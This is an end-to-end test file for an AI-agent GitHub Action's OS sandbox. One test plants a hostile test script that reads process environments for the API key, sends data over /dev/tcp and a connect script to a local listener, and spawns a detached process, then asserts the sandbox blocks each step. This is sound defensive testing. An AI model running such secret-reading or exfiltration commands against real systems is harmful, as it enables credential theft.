/**
 * The sandbox through the built action (dist/index.js), as the runner starts it: the preflight
 * checks the sandbox beside the first model call and logs what it took; a hostile test script
 * cannot read the action's environment, where the runner put the API key as INPUT_*; and where the
 * sandbox cannot start, the run fails before any tool runs (after the one model request it made
 * meanwhile), naming the cause and the fix.
 */
import { chmodSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { commentEvent, E2E_API_KEY, runActionProcess, startActionServers, type ActionServers } from '../support/action-harness.js';
import { connectScript, processesMatching, startTcpListener, type Listener } from '../support/sandbox-fixtures.js';
import { endTurn, reply, toolUse } from '../support/scripted-model.js';

let servers: ActionServers | null = null;
let listener: Listener | null = null;
afterEach(async () => {
  await servers?.close();
  await listener?.close();
  servers = null;
  listener = null;
});

describe('the action, sandboxed', () => {
  it("checks the sandbox before the first tool call and keeps a hostile test script from the action's environment", async () => {
    listener = await startTcpListener();
    const marker = `${Math.floor(900000 + Math.random() * 99999)}`;
    servers = await startActionServers([reply(toolUse('Bash', { command: 'npm test' }, 'toolu_t')), endTurn('Ran the tests.')]);
    const keyPrefix = E2E_API_KEY.slice(0, 16);
    const run = await runActionProcess(servers, {
      event: 'issue_comment',
      payload: commentEvent('@tollgate run the tests'),
      inputs: { policy: 'permissions:\n  allow: ["Bash(npm test:*)"]\n' },
      env: { CI: 'true' },
      workspaceFiles: {
        'package.json': JSON.stringify({ name: 'victim', version: '1.0.0', scripts: { test: 'bash steal.sh' } }),
        'steal.sh': [
          '#!/bin/bash',
        'cat /proc/$(cat action.pid)/environ > /dev/null',
          `echo "action environ: $(cat /proc/$(cat action.pid)/environ 2>&1 | tr "\\0" "\\n" | grep -c ${keyPrefix}) key lines"`,
          `echo "any environ: $(cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c -e ${keyPrefix} -e INPUT_) lines"`,
          `(echo leak > /dev/tcp/127.0.0.1/${listener.port}) 2>/dev/null && echo ESCAPE dev-tcp`,
          'node connect.js',
          `setsid sleep ${marker} > /dev/null 2>&1 < /dev/null &`,
          'echo done',
        ].join('\n'),
        'connect.js': connectScript(listener.port, 'stolen'),
      },
      whileRunning: (child, paths) => writeFileSync(join(paths.workspace, 'action.pid'), String(child.pid)),
    });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    // The preflight ran (beside the first model call, before the first tool) and says what it took.
    const ready = /Tollgate: the OS sandbox is ready \(checked in (\d+) ms\)/.exec(run.stdout);
    expect(ready).not.toBeNull();
    process.stderr.write(`action preflight (sandbox available): ${ready?.[1]} ms\n`);
    const toolResult = JSON.stringify(servers.api.requests[1]?.body['messages']);
    expect(toolResult).toContain('action environ: 0 key lines');
    expect(toolResult).toContain('No such file or directory');
    expect(toolResult).toContain('any environ: 0 lines');
    expect(toolResult).toContain('done');
    expect(toolResult).not.toContain('ESCAPE');
    expect(listener.hits()).toBe(0);
    expect(processesMatching(`sleep ${marker}`)).toEqual([]);
    // The connection the proxy refused is an annotation with the policy line that permits it, and counted.
    expect(run.stdout).toContain(
      `::warning title=The sandbox refused a connection::Bash (npm test) was refused a connection: the sandbox refused a connection to 127.0.0.1:${listener.port}: 127.0.0.1 is not in sandbox.network.allowedDomains. To permit it, set \`sandbox.network.allowedDomains: [127.0.0.1]\` in the policy.`,
    );
    expect(run.outputs['denials']).toBe('1');
  }, 60_000);

  it('fails before any tool runs when the sandbox cannot start, after at most one model request, naming the cause and the fix', async () => {
    // A bwrap that fails the way it does on an ubuntu-24.04 runner without its AppArmor profile. This
    // machine has no AppArmor, so the cause stays "did not start" and nothing is repaired.
    const bin = mkdtempSync(join(tmpdir(), 'tg-broken-bwrap-'));
    writeFileSync(join(bin, 'bwrap'), '#!/bin/sh\necho "bwrap: setting up uid map: Permission denied" >&2\nexit 1\n');
    chmodSync(join(bin, 'bwrap'), 0o755);
    servers = await startActionServers([reply(toolUse('Bash', { command: 'echo ran > ran.txt' }, 'toolu_ran')), endTurn('never asked for')]);
    try {
      const run = await runActionProcess(servers, {
        event: 'issue_comment',
        payload: commentEvent('@tollgate go'),
        // The workspace stays as it was left (changes.keep_workspace), so ran.txt on disk would show a command ran.
        inputs: { policy: 'permissions:\n  allow: ["Bash(echo:*)"]\nchanges:\n  keep_workspace: true\n' },
        env: { PATH: `${bin}:${process.env['PATH'] ?? '/usr/bin:/bin'}` },
      });
      expect(run.code).toBe(1);
      expect(run.stdout).toMatch(/::error::Tollgate ended with 'error': The OS sandbox cannot start: the sandbox did not start \(bwrap: setting up uid map: Permission denied\)\..*To fix it, .*No command ran: the session stopped before its first tool call/);
      // The first request went out while the sandbox started; nothing more was spent.
      expect(servers.api.requests.length).toBeLessThanOrEqual(1);
      expect(existsSync(join(run.workspace, 'ran.txt'))).toBe(false);
      expect(run.outputs['conclusion']).toBe('error');
      const [comment] = [...servers.github.comments.values()];
      expect(comment?.body).toContain('setting up uid map: Permission denied');
      expect(comment?.body).toContain('No command ran');
    } finally {
      rmSync(bin, { recursive: true, force: true });
    }
  }, 60_000);
});
